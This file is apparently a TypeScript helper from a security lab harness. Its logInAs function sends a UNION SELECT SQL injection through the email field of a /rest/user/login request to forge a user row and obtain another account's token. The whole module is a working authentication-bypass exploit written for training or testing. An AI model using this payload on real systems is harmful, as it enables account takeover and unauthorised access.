import type { Tools } from '#lab'

/** All columns of Users in the order of the table, some of them replaced. */
function columns(replaced: Record<string, string>): string {
  const names =
    'id username email password role deluxeToken lastLoginIp profileImage totpSecret isActive createdAt updatedAt deletedAt'
  return names
    .split(' ')
    .map((name) => replaced[name] ?? name)
    .join(',')
}

/** Logs in with an account's row in which these columns are replaced. Returns the token. */
export async function logInAs(tools: Tools, who: string, replaced: Record<string, string>): Promise<string> {
  const { http, expect, settings } = tools
  const address = `${who}@${settings.domain}`
  const email = `' UNION SELECT ${columns(replaced)} FROM Users WHERE email='${address}'--`
  const answer = await http.post('/rest/user/login', { email, password: 'a' })
  expect(answer.status === 200, `the login answered with ${answer.status}`)
  return answer.json<{ authentication: { token: string } }>().authentication.token
}
